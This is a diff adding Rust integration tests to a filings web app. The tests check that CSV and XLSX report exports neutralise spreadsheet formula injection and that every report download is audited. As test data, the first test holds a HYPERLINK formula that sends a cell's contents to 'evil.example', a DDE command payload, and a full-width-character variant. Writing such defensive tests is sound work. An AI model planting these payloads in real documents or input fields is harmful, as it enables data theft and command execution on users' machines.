@@ -1384,3 +1384,108 @@ async fn submitters_are_refused_the_monthly_report_and_see_no_link_to_it() {
         assert_eq!(response.status(), 200, "{role}");
     }
 }
+
+// ---- Formula injection and the audit of downloads (issue 15) -----------------------------------
+
+#[tokio::test]
+async fn formulas_in_a_filing_reach_the_filings_report_csv_neutralised_and_the_xlsx_as_text() {
+    let app = TestApp::spawn().await;
+    let (submitter, reviewer) = (app.user("submitter").await, app.user("reviewer").await);
+    let name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")";
+    let f = received_at(&app, &submitter, "weibo", name, china(2026, 11, 2, 10, 0)).await;
+    filings::approve(
+        &app.db,
+        &reviewer,
+        meta(),
+        f.id,
+        "",
+        china(2026, 11, 4, 10, 0),
+    )
+    .await
+    .unwrap();
+    let report = UpwardReport {
+        reported_on: "2026-11-05".into(),
+        reported_to: "@SUM(1+1)*cmd|' /C calc'!A0".into(),
+        reference: "－1+1".into(),
+    };
+    filings::record_report(
+        &app.db,
+        &reviewer,
+        meta(),
+        f.id,
+        report,
+        china(2026, 11, 5, 9, 0),
+    )
+    .await
+    .unwrap();
+    let client = app.signed_in("reviewer").await;
+    let period = "from=2026-11-01&to=2026-11-30";
+    let rows = csv_rows(&app, &client, &format!("/exports/filings.csv?{period}")).await;
+    let row = rows.iter().find(|r| r[0] == f.number).expect("the filing");
+    assert_eq!(row[3], format!("'{name}"));
+    assert_eq!(row[11], "'@SUM(1+1)*cmd|' /C calc'!A0");
+    assert_eq!(row[12], "'－1+1");
+    for cell in rows.iter().flatten() {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']),
+            "a cell a spreadsheet would run: {cell:?}"
+        );
+    }
+    let sheets = xlsx(&app, &client, &format!("/exports/filings.xlsx?{period}")).await;
+    let row = sheets[0].1.iter().find(|r| r[0] == f.number).unwrap();
+    assert_eq!((row[3].as_str(), row[12].as_str()), (name, "－1+1"));
+}
+
+#[tokio::test]
+async fn every_report_download_is_audited_with_its_period_or_month() {
+    use app::server::entities::audit_event;
+    let app = TestApp::spawn().await;
+    let reviewer = app.signed_in("reviewer").await;
+    for path in [
+        "/exports/filings.csv?from=2026-11-01&to=2026-11-30",
+        "/exports/filings.xlsx?from=2026-11-01&to=2026-11-30&lang=en",
+        "/reports/monthly.xlsx?month=2026-10",
+    ] {
+        let response = get(&app, &reviewer, path).await;
+        assert_eq!(response.status(), 200, "{path}");
+        response.bytes().await.unwrap();
+    }
+    let filings = app.audit_actions("report.filings_exported").await;
+    assert_eq!(filings.len(), 2, "{filings:?}");
+    let monthly = app.audit_actions("report.monthly_exported").await;
+    assert_eq!(monthly.len(), 1, "{monthly:?}");
+    let events = audit_event::Entity::find()
+        .filter(audit_event::Column::Action.starts_with("report."))
+        .all(&app.db)
+        .await
+        .unwrap();
+    let after: Vec<serde_json::Value> = events
+        .iter()
+        .map(|e| serde_json::from_str(e.after.as_deref().unwrap()).unwrap())
+        .collect();
+    assert!(
+        after
+            .iter()
+            .any(|a| a["from"] == "2026-11-01" && a["to"] == "2026-11-30" && a["format"] == "csv")
+    );
+    assert!(
+        after
+            .iter()
+            .any(|a| a["format"] == "xlsx" && a["from"] == "2026-11-01")
+    );
+    assert!(after.iter().any(|a| a["month"] == "2026-10"));
+    assert!(
+        events
+            .iter()
+            .all(|e| e.actor_username.as_deref() == Some("reviewer") && e.entity_type == "report")
+    );
+    // A refused download records nothing.
+    let refused = get(
+        &app,
+        &reviewer,
+        "/exports/filings.csv?from=2026-11-30&to=2026-11-01",
+    )
+    .await;
+    assert_eq!(refused.status(), 400);
+    assert_eq!(app.audit_actions("report.filings_exported").await.len(), 2);
+}
